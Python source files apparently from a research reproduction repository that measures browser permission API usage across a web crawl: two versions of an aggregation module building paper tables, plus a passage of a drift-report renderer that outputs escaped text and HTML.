from dataclasses import dataclass, field
from typing import Iterable

from repro.analysis.parties import Party, classify_call_party
from repro.crawler.records import CallRecord, FrameRecord, SiteVisit
from repro.registry.features import (
    DEFAULT_REGISTRY,
    GENERAL_PERMISSION_APIS,
    PermissionRegistry,
)

#: Pseudo-permission rows the paper's tables use.
GENERAL_ROW = "General Permission APIs"
ALL_PERMISSIONS_ROW = "All Permissions"


@dataclass
class ContextStats:
    """Per-permission context counts for Table 4."""

    permission: str
    top_contexts: int = 0
    top_first_party: int = 0
    top_third_party: int = 0
    embedded_contexts: int = 0
    embedded_first_party: int = 0
    embedded_third_party: int = 0

    @property
    def total_contexts(self) -> int:
        return self.top_contexts + self.embedded_contexts

    def top_party_shares(self) -> tuple[float, float]:
        if not self.top_contexts:
            return 0.0, 0.0
        return (self.top_first_party / self.top_contexts,
                self.top_third_party / self.top_contexts)

    def embedded_party_shares(self) -> tuple[float, float]:
        if not self.embedded_contexts:
            return 0.0, 0.0
        return (self.embedded_first_party / self.embedded_contexts,
                self.embedded_third_party / self.embedded_contexts)


@dataclass
class CheckStats:
    """Per-permission website counts for Table 5."""

    permission: str
    websites: int = 0
    top_contexts: int = 0
    embedded_contexts: int = 0

    @property
    def embedded_share(self) -> float:
        total = self.top_contexts + self.embedded_contexts
        return self.embedded_contexts / total if total else 0.0


@dataclass
class StaticStats:
    """Per-permission website counts for Table 6."""

    permission: str
    websites: int = 0
    top_contexts: int = 0
    embedded_contexts: int = 0

    @property
    def embedded_share(self) -> float:
        total = self.top_contexts + self.embedded_contexts
        return self.embedded_contexts / total if total else 0.0


def static_matches(source: str, registry: PermissionRegistry
                   ) -> tuple[frozenset[str], bool]:
    """Permissions whose API patterns occur in ``source``, plus whether any
    general permission API occurs.  This is the paper's plain
    string-matching static analysis — deliberately blind to obfuscation."""
    permissions = frozenset(p.name for p in registry.match_api(source))
    general = any(api in source for api in GENERAL_PERMISSION_APIS)
    return permissions, general


class UsageAnalysis:
    """Aggregates usage across a crawl (see module docstring)."""

    def __init__(self, visits: Iterable[SiteVisit],
                 registry: PermissionRegistry | None = None) -> None:
        self._registry = registry if registry is not None else DEFAULT_REGISTRY
        self._visits = [v for v in visits if v.success]
        self.top_level_documents = sum(v.top_level_document_count
                                       for v in self._visits)
        #: Denominator for "website" shares.  The paper reports percentages
        #: relative to top-level documents; redirect hops of one visit share
        #: identical behaviour, so per-visit counting over visits yields the
        #: same ratios without double-counting machinery.
        self.website_count = len(self._visits)
        self.invocation_stats: dict[str, ContextStats] = {}
        self.check_stats: dict[str, CheckStats] = {}
        self.static_stats: dict[str, StaticStats] = {}

        self.sites_any_invocation = 0
        self.sites_invocation_top = 0
        self.sites_invocation_embedded = 0
        self.sites_any_static = 0
        self.sites_static_top_only = 0
        self.sites_static_embedded_only = 0
        self.sites_any_functionality = 0
        self.sites_any_status_check = 0
        self.sites_check_top = 0
        self.sites_check_embedded = 0
        self.sites_feature_policy_api = 0
        self.total_top_invoking_contexts = 0
        self.total_embedded_invoking_contexts = 0
        self._top_invoking_first = 0
        self._top_invoking_third = 0
        self._embedded_invoking_first = 0
        self._embedded_invoking_third = 0
        self._permissions_checked_per_top_doc: list[int] = []

        self._run()

    # -- aggregation ---------------------------------------------------------------

    def _stats_for(self, table: dict, cls, permission: str):
        if permission not in table:
            table[permission] = cls(permission)
        return table[permission]

    def _run(self) -> None:
        for visit in self._visits:
            self._aggregate_visit(visit)

    def _aggregate_visit(self, visit: SiteVisit) -> None:
        frames = {frame.frame_id: frame for frame in visit.frames}

        # --- dynamic: first occurrence of each permission per frame ----------
        # key: (frame, row-permission) -> set of parties observed
        invoked: dict[tuple[int, str], set[Party]] = defaultdict(set)
        checked: dict[tuple[int, str], set[Party]] = defaultdict(set)
        any_general_deprecated = False
        for call in visit.calls:
            frame = frames[call.frame_id]
            party = classify_call_party(call, frame)
            if call.uses_deprecated_feature_policy_api:
                any_general_deprecated = True
            if call.is_general:
                invoked[(call.frame_id, GENERAL_ROW)].add(party)
                checked[(call.frame_id, ALL_PERMISSIONS_ROW)].add(party)
            elif call.is_status_check:
                invoked[(call.frame_id, GENERAL_ROW)].add(party)
                for permission in call.permissions:
                    checked[(call.frame_id, permission)].add(party)
            else:
                for permission in call.permissions:
                    invoked[(call.frame_id, permission)].add(party)

        top_invoked = False
        embedded_invoked = False
        seen_frames_top: dict[int, set[Party]] = defaultdict(set)
        seen_frames_embedded: dict[int, set[Party]] = defaultdict(set)
        for (frame_id, permission), parties in invoked.items():
            frame = frames[frame_id]
            stats = self._stats_for(self.invocation_stats, ContextStats,
                                    permission)
            if frame.is_top_level:
                top_invoked = True
                stats.top_contexts += 1
                if Party.FIRST in parties:
                    stats.top_first_party += 1
                if Party.THIRD in parties:
                    stats.top_third_party += 1
                seen_frames_top[frame_id] |= parties
            else:
                embedded_invoked = True
                stats.embedded_contexts += 1
                if Party.FIRST in parties:
                    stats.embedded_first_party += 1
                if Party.THIRD in parties:
                    stats.embedded_third_party += 1
                seen_frames_embedded[frame_id] |= parties
        self.total_top_invoking_contexts += len(seen_frames_top)
        self.total_embedded_invoking_contexts += len(seen_frames_embedded)
        self._top_invoking_first += sum(
            1 for parties in seen_frames_top.values() if Party.FIRST in parties)
        self._top_invoking_third += sum(
            1 for parties in seen_frames_top.values() if Party.THIRD in parties)
        self._embedded_invoking_first += sum(
            1 for parties in seen_frames_embedded.values()
            if Party.FIRST in parties)
        self._embedded_invoking_third += sum(
            1 for parties in seen_frames_embedded.values()
            if Party.THIRD in parties)

        if top_invoked or embedded_invoked:
            self.sites_any_invocation += 1
        if top_invoked:
            self.sites_invocation_top += 1
        if embedded_invoked:
            self.sites_invocation_embedded += 1
        if any_general_deprecated:
            self.sites_feature_policy_api += 1

        # --- status checks (Table 5) ------------------------------------------
        site_checked: set[str] = set()
        check_top = False
        check_embedded = False
        specific_checked_top: set[str] = set()
        for (frame_id, permission), _parties in checked.items():
            frame = frames[frame_id]
            stats = self._stats_for(self.check_stats, CheckStats, permission)
            if frame.is_top_level:
                stats.top_contexts += 1
                check_top = True
                if permission != ALL_PERMISSIONS_ROW:
                    specific_checked_top.add(permission)
            else:
                stats.embedded_contexts += 1
                check_embedded = True
            site_checked.add(permission)
        for permission in site_checked:
            self.check_stats[permission].websites += 1
        if site_checked:
            self.sites_any_status_check += 1
        if check_top:
            self.sites_check_top += 1
        if check_embedded:
            self.sites_check_embedded += 1
        if specific_checked_top:
            self._permissions_checked_per_top_doc.append(
                len(specific_checked_top))

        # --- static (Table 6) ----------------------------------------------------
        static_by_frame: dict[int, frozenset[str]] = {}
        general_by_frame: dict[int, bool] = {}
        for script in visit.scripts:
            permissions, general = static_matches(script.source,
                                                  self._registry)
            previous = static_by_frame.get(script.frame_id, frozenset())
            static_by_frame[script.frame_id] = previous | permissions
            general_by_frame[script.frame_id] = (
                general_by_frame.get(script.frame_id, False) or general)

        site_static: set[str] = set()
        static_top = False
        static_embedded = False
        for frame_id, permissions in static_by_frame.items():
            frame = frames[frame_id]
            names = set(permissions)
            if general_by_frame.get(frame_id):
                names.add(GENERAL_ROW)
            for permission in names:
                stats = self._stats_for(self.static_stats, StaticStats,
                                        permission)
                if frame.is_top_level:
                    stats.top_contexts += 1
                    static_top = True
                else:
                    stats.embedded_contexts += 1
                    static_embedded = True
            if frame.is_top_level and permissions:
                static_top = True
            site_static |= names
        for permission in site_static:
            self.static_stats[permission].websites += 1
        if site_static:
            self.sites_any_static += 1
            if static_top and not static_embedded:
                self.sites_static_top_only += 1
            if static_embedded and not static_top:
                self.sites_static_embedded_only += 1
        if site_static or top_invoked or embedded_invoked:
            self.sites_any_functionality += 1

    # -- shares (percentages relative to top-level documents) ----------------------

    def _share(self, count: int) -> float:
        # Paper convention (Section 4): website counts divided by the
        # top-level *document* total, redirect hops included.
        return (count / self.top_level_documents
                if self.top_level_documents else 0.0)

    @property
    def share_any_invocation(self) -> float:
        return self._share(self.sites_any_invocation)

    @property
    def share_invocation_top(self) -> float:
        return self._share(self.sites_invocation_top)

    @property
    def share_invocation_embedded(self) -> float:
        return self._share(self.sites_invocation_embedded)

    @property
    def share_any_functionality(self) -> float:
        return self._share(self.sites_any_functionality)

    @property
    def share_any_static(self) -> float:
        return self._share(self.sites_any_static)

    @property
    def top_third_party_share(self) -> float:
        """Share of top-level invoking contexts with third-party calls
        (the paper's 98.32 %)."""
        if not self.total_top_invoking_contexts:
            return 0.0
        return self._top_invoking_third / self.total_top_invoking_contexts

    @property
    def embedded_first_party_share(self) -> float:
        """Share of embedded invoking contexts with first-party calls
        (the paper's 74.86 %)."""
        if not self.total_embedded_invoking_contexts:
            return 0.0
        return (self._embedded_invoking_first
                / self.total_embedded_invoking_contexts)

    @property
    def mean_permissions_checked(self) -> float:
        if not self._permissions_checked_per_top_doc:
            return 0.0
        return (sum(self._permissions_checked_per_top_doc)
                / len(self._permissions_checked_per_top_doc))

    @property
    def max_permissions_checked(self) -> int:
        return max(self._permissions_checked_per_top_doc, default=0)

    # -- tables ----------------------------------------------------------------------

    def invocation_table(self, top_n: int = 10) -> list[ContextStats]:
        """Table 4: permissions ranked by total invoking contexts."""
        rows = sorted(self.invocation_stats.values(),
                      key=lambda s: s.total_contexts, reverse=True)
        return rows[:top_n]

    def status_check_table(self, top_n: int = 10) -> list[CheckStats]:
        """Table 5: checked permissions ranked by websites."""
        rows = sorted(self.check_stats.values(),
                      key=lambda s: s.websites, reverse=True)
        return rows[:top_n]

    def static_table(self, top_n: int = 10) -> list[StaticStats]:
        """Table 6: statically detected permissions ranked by websites,
        excluding the general-API pseudo-row (the paper ranks concrete
        permissions here)."""
        rows = sorted(
            (s for s in self.static_stats.values()
             if s.permission != GENERAL_ROW),
            key=lambda s: s.websites, reverse=True)
        return rows[:top_n]

    # -- per-site views used by the over-permission detector ------------------------

    def frame_activity(self, visit: SiteVisit) -> dict[int, frozenset[str]]:
        """All permission-related activity per frame of one visit: invoked,
        checked, or statically present (the Section 5 activity notion)."""
        activity: dict[int, set[str]] = defaultdict(set)
        for call in visit.calls:
            for permission in call.permissions:
                activity[call.frame_id].add(permission)
        for script in visit.scripts:
            permissions, _general = static_matches(script.source,
                                                   self._registry)
            activity[script.frame_id] |= permissions
        return {frame_id: frozenset(perms)
                for frame_id, perms in activity.items()}
