"""Permission usage analysis (paper Section 4.1, Tables 4–6).

Three views over the crawl records:

* **Invocations (dynamic)** — which permissions were invoked per execution
  context, split by first/third party (Table 4).  The "General Permission
  APIs" pseudo-row aggregates calls to the Permissions / Permissions
  Policy / Feature Policy specification APIs.
* **Status checks (dynamic)** — which permissions had their state checked,
  and the "All Permissions" row for wholesale allowed-feature retrievals
  (Table 5).
* **Static detections** — string matching of permission API patterns in
  collected script sources (Table 6).

Counting follows the paper exactly: only the first occurrence of each
permission per frame counts ("this ensures that outliers … do not
artificially inflate the results"), context counts are frames, website
counts are site visits, and percentages are relative to top-level
documents.

The per-frame dedup tables and static matches are precomputed by
:class:`~repro.analysis.index.DatasetIndex`; this class only aggregates
them.  ``GENERAL_ROW``, ``ALL_PERMISSIONS_ROW`` and
:func:`~repro.analysis.index.static_matches` live in that module now and
are re-exported here for backwards compatibility.
"""

from __future__ import annotations

from collections import defaultdict
from dataclasses import dataclass, fields
from typing import Iterable, Union

from repro.analysis.index import (
    ALL_PERMISSIONS_ROW,
    GENERAL_ROW,
    DatasetIndex,
    VisitIndex,
    as_index,
    static_matches,
)
from repro.analysis.parties import Party
from repro.crawler.records import SiteVisit
from repro.registry.features import PermissionRegistry

__all__ = [
    "ALL_PERMISSIONS_ROW",
    "CheckStats",
    "ContextStats",
    "GENERAL_ROW",
    "StaticStats",
    "UsageAnalysis",
    "static_matches",
]


@dataclass
class ContextStats:
    """Per-permission context counts for Table 4."""

    permission: str
    top_contexts: int = 0
    top_first_party: int = 0
    top_third_party: int = 0
    embedded_contexts: int = 0
    embedded_first_party: int = 0
    embedded_third_party: int = 0

    @property
    def total_contexts(self) -> int:
        return self.top_contexts + self.embedded_contexts

    def top_party_shares(self) -> tuple[float, float]:
        if not self.top_contexts:
            return 0.0, 0.0
        return (self.top_first_party / self.top_contexts,
                self.top_third_party / self.top_contexts)

    def embedded_party_shares(self) -> tuple[float, float]:
        if not self.embedded_contexts:
            return 0.0, 0.0
        return (self.embedded_first_party / self.embedded_contexts,
                self.embedded_third_party / self.embedded_contexts)


@dataclass
class CheckStats:
    """Per-permission website counts for Table 5."""

    permission: str
    websites: int = 0
    top_contexts: int = 0
    embedded_contexts: int = 0

    @property
    def embedded_share(self) -> float:
        total = self.top_contexts + self.embedded_contexts
        return self.embedded_contexts / total if total else 0.0


@dataclass
class StaticStats:
    """Per-permission website counts for Table 6."""

    permission: str
    websites: int = 0
    top_contexts: int = 0
    embedded_contexts: int = 0

    @property
    def embedded_share(self) -> float:
        total = self.top_contexts + self.embedded_contexts
        return self.embedded_contexts / total if total else 0.0


class UsageAnalysis:
    """Aggregates usage across a crawl (see module docstring)."""

    def __init__(self,
                 visits: "Union[DatasetIndex, Iterable[SiteVisit]]",
                 registry: PermissionRegistry | None = None) -> None:
        self._index = as_index(visits, registry)
        self._registry = self._index.registry
        self.invocation_stats: dict[str, ContextStats] = {}
        self.check_stats: dict[str, CheckStats] = {}
        self.static_stats: dict[str, StaticStats] = {}

        self.sites_any_invocation = 0
        self.sites_invocation_top = 0
        self.sites_invocation_embedded = 0
        self.sites_any_static = 0
        self.sites_static_top_only = 0
        self.sites_static_embedded_only = 0
        self.sites_any_functionality = 0
        self.sites_any_status_check = 0
        self.sites_check_top = 0
        self.sites_check_embedded = 0
        self.sites_feature_policy_api = 0
        self.total_top_invoking_contexts = 0
        self.total_embedded_invoking_contexts = 0
        self._top_invoking_first = 0
        self._top_invoking_third = 0
        self._embedded_invoking_first = 0
        self._embedded_invoking_third = 0
        self._permissions_checked_per_top_doc: list[int] = []

        # A streaming index feeds _aggregate_visit per visit instead
        # (repro.analysis.summary.summarize_streaming drives the pass).
        if not self._index.streaming:
            self._run()

    @property
    def _visits(self) -> list:
        return self._index.visits

    @property
    def top_level_documents(self) -> int:
        return self._index.top_level_documents

    @property
    def website_count(self) -> int:
        """Denominator for "website" shares.  The paper reports percentages
        relative to top-level documents; redirect hops of one visit share
        identical behaviour, so per-visit counting over visits yields the
        same ratios without double-counting machinery."""
        return self._index.website_count

    # -- aggregation ---------------------------------------------------------------

    def _stats_for(self, table: dict, cls, permission: str):
        if permission not in table:
            table[permission] = cls(permission)
        return table[permission]

    def _run(self) -> None:
        for vi in self._index.visit_indexes:
            self._aggregate_visit(vi)

    def _aggregate_visit(self, vi: VisitIndex) -> None:
        frames = vi.frames_by_id

        # --- dynamic: first occurrence of each permission per frame ----------
        # (frame, row-permission) -> parties, precomputed by the index.
        invoked = vi.invoked
        checked = vi.checked
        any_general_deprecated = vi.any_general_deprecated

        top_invoked = False
        embedded_invoked = False
        seen_frames_top: dict[int, set[Party]] = defaultdict(set)
        seen_frames_embedded: dict[int, set[Party]] = defaultdict(set)
        for (frame_id, permission), parties in invoked.items():
            frame = frames[frame_id]
            stats = self._stats_for(self.invocation_stats, ContextStats,
                                    permission)
            if frame.is_top_level:
                top_invoked = True
                stats.top_contexts += 1
                if Party.FIRST in parties:
                    stats.top_first_party += 1
                if Party.THIRD in parties:
                    stats.top_third_party += 1
                seen_frames_top[frame_id] |= parties
            else:
                embedded_invoked = True
                stats.embedded_contexts += 1
                if Party.FIRST in parties:
                    stats.embedded_first_party += 1
                if Party.THIRD in parties:
                    stats.embedded_third_party += 1
                seen_frames_embedded[frame_id] |= parties
        self.total_top_invoking_contexts += len(seen_frames_top)
        self.total_embedded_invoking_contexts += len(seen_frames_embedded)
        self._top_invoking_first += sum(
            1 for parties in seen_frames_top.values() if Party.FIRST in parties)
        self._top_invoking_third += sum(
            1 for parties in seen_frames_top.values() if Party.THIRD in parties)
        self._embedded_invoking_first += sum(
            1 for parties in seen_frames_embedded.values()
            if Party.FIRST in parties)
        self._embedded_invoking_third += sum(
            1 for parties in seen_frames_embedded.values()
            if Party.THIRD in parties)

        if top_invoked or embedded_invoked:
            self.sites_any_invocation += 1
        if top_invoked:
            self.sites_invocation_top += 1
        if embedded_invoked:
            self.sites_invocation_embedded += 1
        if any_general_deprecated:
            self.sites_feature_policy_api += 1

        # --- status checks (Table 5) ------------------------------------------
        site_checked: set[str] = set()
        check_top = False
        check_embedded = False
        specific_checked_top: set[str] = set()
        for (frame_id, permission), _parties in checked.items():
            frame = frames[frame_id]
            stats = self._stats_for(self.check_stats, CheckStats, permission)
            if frame.is_top_level:
                stats.top_contexts += 1
                check_top = True
                if permission != ALL_PERMISSIONS_ROW:
                    specific_checked_top.add(permission)
            else:
                stats.embedded_contexts += 1
                check_embedded = True
            site_checked.add(permission)
        for permission in site_checked:
            self.check_stats[permission].websites += 1
        if site_checked:
            self.sites_any_status_check += 1
        if check_top:
            self.sites_check_top += 1
        if check_embedded:
            self.sites_check_embedded += 1
        if specific_checked_top:
            self._permissions_checked_per_top_doc.append(
                len(specific_checked_top))

        # --- static (Table 6) ----------------------------------------------------
        static_by_frame = vi.static_by_frame
        general_by_frame = vi.general_by_frame

        site_static: set[str] = set()
        static_top = False
        static_embedded = False
        for frame_id, permissions in static_by_frame.items():
            frame = frames[frame_id]
            names = set(permissions)
            if general_by_frame.get(frame_id):
                names.add(GENERAL_ROW)
            for permission in names:
                stats = self._stats_for(self.static_stats, StaticStats,
                                        permission)
                if frame.is_top_level:
                    stats.top_contexts += 1
                    static_top = True
                else:
                    stats.embedded_contexts += 1
                    static_embedded = True
            if frame.is_top_level and permissions:
                static_top = True
            site_static |= names
        for permission in site_static:
            self.static_stats[permission].websites += 1
        if site_static:
            self.sites_any_static += 1
            if static_top and not static_embedded:
                self.sites_static_top_only += 1
            if static_embedded and not static_top:
                self.sites_static_embedded_only += 1
        if site_static or top_invoked or embedded_invoked:
            self.sites_any_functionality += 1

    # -- process-parallel summarize support ------------------------------------
    # A worker aggregates a contiguous rank span through _aggregate_visit,
    # ships the additive state below, and the parent folds the spans back
    # in rank order — so dict insertion order (and therefore every
    # most_common/stable-sort tie-break downstream) matches a serial pass.

    _PARTIAL_INTS = (
        "sites_any_invocation", "sites_invocation_top",
        "sites_invocation_embedded", "sites_any_static",
        "sites_static_top_only", "sites_static_embedded_only",
        "sites_any_functionality", "sites_any_status_check",
        "sites_check_top", "sites_check_embedded",
        "sites_feature_policy_api", "total_top_invoking_contexts",
        "total_embedded_invoking_contexts", "_top_invoking_first",
        "_top_invoking_third", "_embedded_invoking_first",
        "_embedded_invoking_third")

    def _partial_state(self) -> dict:
        """Picklable additive state: everything ``_aggregate_visit``
        writes, nothing derived."""
        return {
            "invocation_stats": self.invocation_stats,
            "check_stats": self.check_stats,
            "static_stats": self.static_stats,
            "ints": {name: getattr(self, name)
                     for name in self._PARTIAL_INTS},
            "permissions_checked": list(
                self._permissions_checked_per_top_doc),
        }

    def _merge_partial(self, state: dict) -> None:
        """Fold one rank span's partial state in (spans in rank order)."""
        for table_name, cls in (("invocation_stats", ContextStats),
                                ("check_stats", CheckStats),
                                ("static_stats", StaticStats)):
            mine = getattr(self, table_name)
            count_fields = [f.name for f in fields(cls)
                            if f.name != "permission"]
            for permission, theirs in state[table_name].items():
                stats = self._stats_for(mine, cls, permission)
                for name in count_fields:
                    setattr(stats, name,
                            getattr(stats, name) + getattr(theirs, name))
        for name, value in state["ints"].items():
            setattr(self, name, getattr(self, name) + value)
        self._permissions_checked_per_top_doc.extend(
            state["permissions_checked"])

    # -- shares (percentages relative to top-level documents) ----------------------

    def _share(self, count: int) -> float:
        # Paper convention (Section 4): website counts divided by the
        # top-level *document* total, redirect hops included.
        return (count / self.top_level_documents
                if self.top_level_documents else 0.0)

    @property
    def share_any_invocation(self) -> float:
        return self._share(self.sites_any_invocation)

    @property
    def share_invocation_top(self) -> float:
        return self._share(self.sites_invocation_top)

    @property
    def share_invocation_embedded(self) -> float:
        return self._share(self.sites_invocation_embedded)

    @property
    def share_any_functionality(self) -> float:
        return self._share(self.sites_any_functionality)

    @property
    def share_any_static(self) -> float:
        return self._share(self.sites_any_static)

    @property
    def top_third_party_share(self) -> float:
        """Share of top-level invoking contexts with third-party calls
        (the paper's 98.32 %)."""
        if not self.total_top_invoking_contexts:
            return 0.0
        return self._top_invoking_third / self.total_top_invoking_contexts

    @property
    def embedded_first_party_share(self) -> float:
        """Share of embedded invoking contexts with first-party calls
        (the paper's 74.86 %)."""
        if not self.total_embedded_invoking_contexts:
            return 0.0
        return (self._embedded_invoking_first
                / self.total_embedded_invoking_contexts)

    @property
    def mean_permissions_checked(self) -> float:
        if not self._permissions_checked_per_top_doc:
            return 0.0
        return (sum(self._permissions_checked_per_top_doc)
                / len(self._permissions_checked_per_top_doc))

    @property
    def max_permissions_checked(self) -> int:
        return max(self._permissions_checked_per_top_doc, default=0)

    # -- tables ----------------------------------------------------------------------

    def invocation_table(self, top_n: int = 10) -> list[ContextStats]:
        """Table 4: permissions ranked by total invoking contexts."""
        rows = sorted(self.invocation_stats.values(),
                      key=lambda s: s.total_contexts, reverse=True)
        return rows[:top_n]

    def status_check_table(self, top_n: int = 10) -> list[CheckStats]:
        """Table 5: checked permissions ranked by websites."""
        rows = sorted(self.check_stats.values(),
                      key=lambda s: s.websites, reverse=True)
        return rows[:top_n]

    def static_table(self, top_n: int = 10) -> list[StaticStats]:
        """Table 6: statically detected permissions ranked by websites,
        excluding the general-API pseudo-row (the paper ranks concrete
        permissions here)."""
        rows = sorted(
            (s for s in self.static_stats.values()
             if s.permission != GENERAL_ROW),
            key=lambda s: s.websites, reverse=True)
        return rows[:top_n]

    # -- per-site views used by the over-permission detector ------------------------

    def frame_activity(self, visit: SiteVisit) -> dict[int, frozenset[str]]:
        """All permission-related activity per frame of one visit: invoked,
        checked, or statically present (the Section 5 activity notion)."""
        activity: dict[int, set[str]] = defaultdict(set)
        for call in visit.calls:
            for permission in call.permissions:
                activity[call.frame_id].add(permission)
        for script in visit.scripts:
            permissions, _general = self._index.static(script.source)
            activity[script.frame_id] |= permissions
        return {frame_id: frozenset(perms)
                for frame_id, perms in activity.items()}
