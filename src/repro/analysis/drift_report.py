"""Deterministic rendering for drift results: text tables + HTML.

Text goes through :func:`repro.analysis.report.render_table` like every
other report in the repo.  The HTML dashboard is zero-dependency — one
self-contained document, inline CSS, no scripts — and **byte
deterministic** for a fixed input: no timestamps, no environment
sniffing, no unordered iteration, fixed float formatting.  The drift
bench (``benchmarks/bench_perf_drift.py``) renders the same timeline in
two separate subprocesses and gates on identical SHA-256.

Every dynamic string (site names, failure reasons, feature names) is
HTML-escaped: stores can hold hostile crawl data (DESIGN.md §4g) and the
report must never become an injection vector.
"""

from __future__ import annotations

import html

from repro.analysis.drift import (
    DRIFT_METRICS,
    CrawlDiff,
    DriftTimeline,
    SiteSignature,
    StoreMetrics,
)
from repro.analysis.report import render_table
from repro.obs.tracing import TRACER

#: Metrics rendered as percentages (everything else is a count).
PERCENT_METRICS = frozenset(
    name for name in DRIFT_METRICS if name.endswith("_share"))

#: Feature-mix rows shown per store in the HTML report.
_MIX_ROWS = 8


def _fmt_value(metric: str, value: float) -> str:
    if metric in PERCENT_METRICS:
        return f"{value:.2%}"
    return f"{value:,.0f}"


def _fmt_absolute(metric: str, value: float) -> str:
    if metric in PERCENT_METRICS:
        return f"{value:+.2%}"
    return f"{value:+,.0f}"


def _fmt_relative(value: "float | None") -> str:
    return "n/a" if value is None else f"{value:+.1%}"


def _signature_cell(signature: SiteSignature) -> str:
    headers = []
    if signature.has_pp_header:
        headers.append("PP")
    if signature.has_fp_header:
        headers.append("FP")
    status = "ok" if signature.success else \
        f"failed({signature.failure or 'unknown'})"
    features = ",".join(signature.delegated_features) or "-"
    return f"{status} hdr={'+'.join(headers) or '-'} allow={features}"


# ---------------------------------------------------------------------------
# Text rendering.


def render_timeline_text(timeline: DriftTimeline) -> str:
    """The timeline as one monospace table (metrics × eras + total Δ)."""
    rows = []
    for series in timeline.series:
        rows.append((
            series.metric,
            *(_fmt_value(series.metric, value) for value in series.values),
            _fmt_absolute(series.metric, series.total_delta),
        ))
    return render_table(
        ("metric", *timeline.labels, "Δ last-first"), rows,
        title=f"drift timeline ({' → '.join(timeline.labels)})")


def render_diff_text(diff: CrawlDiff, *, max_site_rows: int = 20) -> str:
    """The diff as stacked tables: site sets, metric deltas, changes."""
    sections = [render_table(
        ("sites", "count"),
        (("added", len(diff.added)),
         ("removed", len(diff.removed)),
         ("changed", len(diff.changed)),
         ("unchanged", diff.unchanged_sites)),
        title=(f"crawl diff: {diff.before.label} → {diff.after.label}"
               + (" (identical)" if diff.is_empty else "")))]
    sections.append(render_table(
        ("metric", diff.before.label, diff.after.label, "Δ", "rel"),
        ((delta.metric, _fmt_value(delta.metric, delta.before),
          _fmt_value(delta.metric, delta.after),
          _fmt_absolute(delta.metric, delta.absolute),
          _fmt_relative(delta.relative))
         for delta in diff.deltas),
        title="aggregate deltas"))
    if diff.changed:
        shown = diff.changed[:max_site_rows]
        rows = [(delta.site, delta.rank, ", ".join(delta.changed_fields),
                 _signature_cell(delta.before), _signature_cell(delta.after))
                for delta in shown]
        title = f"changed sites (first {len(shown)} of {len(diff.changed)})"
        sections.append(render_table(
            ("site", "rank", "changed", "before", "after"), rows,
            title=title))
    return "\n\n".join(sections)


# ---------------------------------------------------------------------------
# HTML rendering.

_CSS = """\
body{margin:2rem auto;max-width:72rem;padding:0 1rem;
font:14px/1.5 system-ui,-apple-system,'Segoe UI',sans-serif;
color:#1a2330;background:#fff}
h1{font-size:1.4rem;margin-bottom:.25rem}
h2{font-size:1.05rem;margin-top:2rem;border-bottom:1px solid #d8dee6;
padding-bottom:.25rem}
p.sub{color:#5b6878;margin-top:0}
table{border-collapse:collapse;width:100%;margin:.75rem 0}
th,td{padding:.3rem .6rem;text-align:right;border-bottom:1px solid #e4e8ee;
white-space:nowrap}
th{color:#5b6878;font-weight:600}
th:first-child,td:first-child{text-align:left}
td.name{font-family:ui-monospace,SFMono-Regular,Menlo,monospace;
font-size:13px}
.delta-up{color:#0a7a3d;font-weight:600}
.delta-down{color:#b42318;font-weight:600}
.delta-flat{color:#5b6878}
.bar{display:inline-block;height:.7rem;background:#3566b0;
border-radius:2px;vertical-align:baseline}
.bar-cell{width:12rem;text-align:left}
.note{color:#5b6878;font-size:13px}
"""


def _esc(value: object) -> str:
    return html.escape(str(value), quote=True)


def _delta_class(value: float) -> str:
    if value > 0:
        return "delta-up"
    if value < 0:
        return "delta-down"
    return "delta-flat"


def _delta_cell(metric: str, value: float) -> str:
    return (f'<td class="{_delta_class(value)}">'
            f"{_esc(_fmt_absolute(metric, value))}</td>")


def _bar_cell(value: float, scale: float) -> str:
    width = 0.0 if scale <= 0 else min(100.0, 100.0 * value / scale)
    return (f'<td class="bar-cell"><span class="bar" '
            f'style="width:{width:.2f}%">&nbsp;</span></td>')


def _document(title: str, body: "list[str]") -> str:
    parts = [
        "<!doctype html>",
        '<html lang="en">',
        "<head>",
        '<meta charset="utf-8">',
        f"<title>{_esc(title)}</title>",
        f"<style>{_CSS}</style>",
        "</head>",
        "<body>",
        *body,
        "</body>",
        "</html>",
        "",
    ]
    return "\n".join(parts)


def _metrics_table(timeline: DriftTimeline) -> "list[str]":
    out = ["<table>", "<tr><th>metric</th>"]
    for label in timeline.labels:
        out.append(f"<th>{_esc(label)}</th>")
    out.append("<th>Δ last-first</th><th>trend</th></tr>")
    for series in timeline.series:
        scale = max(series.values) if series.values else 0.0
        cells = [f'<td class="name">{_esc(series.metric)}</td>']
        cells.extend(
            f"<td>{_esc(_fmt_value(series.metric, value))}</td>"
            for value in series.values)
        cells.append(_delta_cell(series.metric, series.total_delta))
        cells.append(_bar_cell(series.values[-1], scale))
        out.append("<tr>" + "".join(cells) + "</tr>")
    out.append("</table>")
    return out


def _mix_table(metrics: StoreMetrics) -> "list[str]":
    rows = metrics.allow_feature_mix[:_MIX_ROWS]
    if not rows:
        return [f"<p class=\"note\">{_esc(metrics.label)}: "
                "no external delegations</p>"]
    out = [f"<h2>Delegated-feature mix — {_esc(metrics.label)}</h2>",
           "<table>",
           "<tr><th>feature</th><th>share of delegations</th>"
           "<th></th></tr>"]
    scale = rows[0][1]
    for feature, share in rows:
        out.append(
            "<tr>"
            f'<td class="name">{_esc(feature)}</td>'
            f"<td>{_esc(f'{share:.2%}')}</td>"
            f"{_bar_cell(share, scale)}"
            "</tr>")
    out.append("</table>")
    return out


def render_timeline_html(timeline: DriftTimeline, *,
                         title: str = "Permissions drift report") -> str:
    """The N-era drift dashboard as one self-contained HTML document."""
    with TRACER.span("drift.render_html", kind="timeline",
                     eras=len(timeline.labels)):
        body = [
            f"<h1>{_esc(title)}</h1>",
            f'<p class="sub">{_esc(" → ".join(timeline.labels))} · '
            f"{len(timeline.series)} metrics · counts are sites, "
            "shares are top-level-document weighted</p>",
            "<h2>Metric drift</h2>",
            *_metrics_table(timeline),
        ]
        for metrics in timeline.metrics:
            body.extend(_mix_table(metrics))
        return _document(title, body)


def _site_rows_html(title: str, rows: "list[str]",
                    total: int, shown: int) -> "list[str]":
    out = [f"<h2>{_esc(title)}</h2>"]
    if shown < total:
        out.append(f'<p class="note">showing first {shown} of {total}</p>')
    out.extend(rows)
    return out


def render_diff_html(diff: CrawlDiff, *, title: str | None = None,
                     max_site_rows: int = 50) -> str:
    """One crawl diff as a self-contained HTML document."""
    if title is None:
        title = f"Crawl diff: {diff.before.label} → {diff.after.label}"
    with TRACER.span("drift.render_html", kind="diff"):
        body = [
            f"<h1>{_esc(title)}</h1>",
            f'<p class="sub">{len(diff.added):,} added · '
            f"{len(diff.removed):,} removed · {len(diff.changed):,} "
